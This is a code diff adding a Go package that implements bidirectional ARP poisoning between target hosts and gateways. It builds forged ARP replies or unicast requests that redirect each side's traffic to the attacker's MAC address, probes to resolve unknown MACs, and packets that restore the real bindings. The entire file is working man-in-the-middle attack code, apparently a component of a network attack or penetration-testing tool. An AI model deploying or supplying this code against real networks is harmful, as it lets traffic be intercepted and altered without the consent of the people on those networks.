@@ -0,0 +1,138 @@
+package arp
+
+import (
+	"net"
+
+	"github.com/google/gopacket/layers"
+)
+
+// Method is how the poisoned binding is delivered
+type Method int
+
+const (
+	MethodReply Method = iota
+	MethodRequest
+)
+
+// PoisonConfig configuration for a bidirectional ARP poisoning
+type PoisonConfig struct {
+	OurMAC net.HardwareAddr
+	// OurIP is the sender address of the requests that resolve the hosts. Nil sends ARP probes.
+	OurIP net.IP
+	// Targets and Gateways are the two sides. Every target is told every gateway is at
+	// OurMAC and the other way round.
+	Targets  []net.IP
+	Gateways []net.IP
+	Method   Method
+	// Cache resolves the real MACs. It must be fed the captured ARP traffic.
+	Cache *Cache
+}
+
+// Host is one side of the poisoning with its real MAC, nil until resolved
+type Host struct {
+	IP      net.IP
+	MAC     net.HardwareAddr
+	Gateway bool
+}
+
+// Poisoner builds the packets of an ARP MitM between two groups of hosts
+type Poisoner struct {
+	cfg PoisonConfig
+}
+
+// NewPoisoner creates a poisoner
+func NewPoisoner(cfg PoisonConfig) *Poisoner {
+	if cfg.OurIP == nil {
+		cfg.OurIP = net.IPv4zero
+	}
+	return &Poisoner{cfg: cfg}
+}
+
+// Hosts returns both sides with the MACs resolved so far
+func (p *Poisoner) Hosts() []Host {
+	var hosts []Host
+	for _, ip := range p.cfg.Targets {
+		mac, _ := p.cfg.Cache.Lookup(ip)
+		hosts = append(hosts, Host{IP: ip, MAC: mac})
+	}
+	for _, ip := range p.cfg.Gateways {
+		mac, _ := p.cfg.Cache.Lookup(ip)
+		hosts = append(hosts, Host{IP: ip, MAC: mac, Gateway: true})
+	}
+	return hosts
+}
+
+// Packets returns one poisoning round. Hosts whose MAC is still unknown get a
+// broadcast request instead so the cache can learn it.
+func (p *Poisoner) Packets() ([][]byte, error) {
+	var out [][]byte
+	targets, gateways := p.split()
+
+	for _, h := range append(append([]Host(nil), targets...), gateways...) {
+		if h.MAC != nil {
+			continue
+		}
+		pkt, err := CraftARPRequest(p.cfg.OurMAC, p.cfg.OurIP, h.IP)
+		if err != nil {
+			return nil, err
+		}
+		out = append(out, pkt)
+	}
+
+	for _, t := range targets {
+		for _, g := range gateways {
+			if t.MAC == nil || g.MAC == nil || t.IP.Equal(g.IP) {
+				continue
+			}
+			for _, pair := range [][2]Host{{t, g}, {g, t}} {
+				pkt, err := p.poison(pair[0], pair[1].IP)
+				if err != nil {
+					return nil, err
+				}
+				out = append(out, pkt)
+			}
+		}
+	}
+	return out, nil
+}
+
+// poison tells victim that ip is at our MAC
+func (p *Poisoner) poison(victim Host, ip net.IP) ([]byte, error) {
+	if p.cfg.Method == MethodRequest {
+		return CraftARPUnicastRequest(p.cfg.OurMAC, victim.MAC, ip, victim.IP)
+	}
+	return CraftARPReply(p.cfg.OurMAC, victim.MAC, ip, victim.IP)
+}
+
+// RestorePackets returns replies that give every poisoned host the real binding back
+func (p *Poisoner) RestorePackets() ([][]byte, error) {
+	var out [][]byte
+	targets, gateways := p.split()
+	for _, t := range targets {
+		for _, g := range gateways {
+			if t.MAC == nil || g.MAC == nil || t.IP.Equal(g.IP) {
+				continue
+			}
+			for _, pair := range [][2]Host{{t, g}, {g, t}} {
+				victim, real := pair[0], pair[1]
+				pkt, err := craftARP(layers.ARPReply, p.cfg.OurMAC, victim.MAC, real.MAC, real.IP, victim.MAC, victim.IP)
+				if err != nil {
+					return nil, err
+				}
+				out = append(out, pkt)
+			}
+		}
+	}
+	return out, nil
+}
+
+func (p *Poisoner) split() (targets, gateways []Host) {
+	for _, h := range p.Hosts() {
+		if h.Gateway {
+			gateways = append(gateways, h)
+		} else {
+			targets = append(targets, h)
+		}
+	}
+	return targets, gateways
+}